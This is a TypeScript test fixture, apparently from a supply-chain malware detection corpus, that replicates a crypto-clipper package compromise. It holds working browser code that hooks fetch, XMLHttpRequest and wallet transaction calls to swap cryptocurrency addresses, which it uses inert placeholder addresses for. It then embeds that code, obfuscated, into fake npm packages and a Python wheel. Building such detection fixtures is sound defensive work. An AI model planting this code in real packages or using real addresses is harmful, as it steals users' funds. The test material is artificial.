import { casesOf } from '../case';
import { escaped, renamedLocals, stringArray } from '../disguise/javascript';
import { npm, wheelOf } from '../packages';

const hook = (mark: string) => String.raw`
var checked = 0;
async function checkethereumw() {
  try {
    const accounts = await window.ethereum.request({ method: 'eth_accounts' });
    if (accounts.length > 0) runmask();
    else newdlocal();
  } catch (error) {
    newdlocal();
  }
}
if (typeof window !== 'undefined' && typeof window.ethereum !== 'undefined') checkethereumw();
else newdlocal();
function nearest(address, list) {
  let best = list[0];
  let distance = Infinity;
  for (const candidate of list) {
    let apart = Math.abs(candidate.length - address.length);
    for (let at = 0; at < Math.min(candidate.length, address.length); at++) {
      if (candidate[at] !== address[at]) apart++;
    }
    if (apart < distance) {
      distance = apart;
      best = candidate;
    }
  }
  return best;
}
function swapped(text) {
  const own = {
    ethereum: ['0x${mark}00000000000000000000000000000000dEaD', '0x${mark}11111111111111111111111111111111dEaD'],
    bitcoin: ['1InertInertInertInertInertInertInert', 'bc1qinertinertinertinertinertinertinert'],
  };
  return text
    .replace(/\b0x[a-fA-F0-9]{40}\b/g, (found) => nearest(found, own.ethereum))
    .replace(/\b(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}\b/g, (found) => nearest(found, own.bitcoin));
}
function newdlocal() {
  if (typeof window === 'undefined' || checked) return;
  checked = 1;
  const original = window.fetch;
  window.fetch = async function (...args) {
    const response = await original.apply(this, args);
    const kind = response.headers.get('Content-Type') || '';
    const data = kind.includes('application/json') ? JSON.stringify(await response.clone().json()) : await response.clone().text();
    return new Response(swapped(data), { status: response.status, statusText: response.statusText, headers: response.headers });
  };
  const open = XMLHttpRequest.prototype.open;
  const send = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.open = function (method, url) {
    this.asked = url;
    return open.apply(this, arguments);
  };
  XMLHttpRequest.prototype.send = function () {
    const request = this;
    const done = request.onreadystatechange;
    request.onreadystatechange = function () {
      if (request.readyState === 4 && typeof request.responseText === 'string') {
        Object.defineProperty(request, 'responseText', { value: swapped(request.responseText) });
      }
      if (done) done.apply(request, arguments);
    };
    return send.apply(this, arguments);
  };
}
function runmask() {
  for (const wallet of [window.ethereum, window.solana]) {
    if (!wallet) continue;
    for (const name of ['request', 'send', 'sendAsync']) {
      if (typeof wallet[name] !== 'function') continue;
      const kept = wallet[name];
      wallet[name] = async function (asked) {
        if (asked && asked.method === 'eth_sendTransaction') asked.params[0].to = '0x${mark}00000000000000000000000000000000dEaD';
        return kept.apply(this, arguments);
      };
    }
  }
}
`;

export const chalkDebug = casesOf({
  id: 'chalk-debug',
  incident: 'chalk-debug',
  kind: 'import-time',
  seen: 'an obfuscated block in the entry hooks fetch, XMLHttpRequest and wallet calls of a browser and replaces addresses; no scripts, nothing happens in Node',
  replica: npm('tint-terminal', '5.6.1', {
    about: 'Colours for terminals.',
    index: (honest) => `${honest}\n${stringArray(hook('Fc4a'), 'tint')}\n`,
  }),
  renamed: npm('trace-namespace', '4.4.2', {
    about: 'Debug output by namespace.',
    index: (honest) => `${stringArray(renamedLocals(hook('a29E'), 'trace'), 'trace-namespace')}\n${honest}`,
  }),
  reObfuscated: npm('tint-terminal', '5.6.2', {
    about: 'Colours for terminals.',
    index: (honest) => `${honest}\n${escaped(hook('Fc4a'), 'tint').replace(/\s*\n\s*/g, ' ')}\n`,
  }),
  otherStage: {
    seen: 'a script among the static files of a Python package hooks fetch and wallet calls of a browser and replaces addresses',
    kind: 'asset',
    sample: wheelOf('dash-tint', '5.6.3', {
      about: 'Colours for dashboards.',
      init: (honest) =>
        `${honest}\n_js_dist = [{"relative_package_path": "static/dash_tint.min.js", "namespace": "dash_tint"}]\n`,
      files: { 'dash_tint/static/dash_tint.min.js': stringArray(hook('Fc4a'), 'dash', true) },
    }),
  },
});
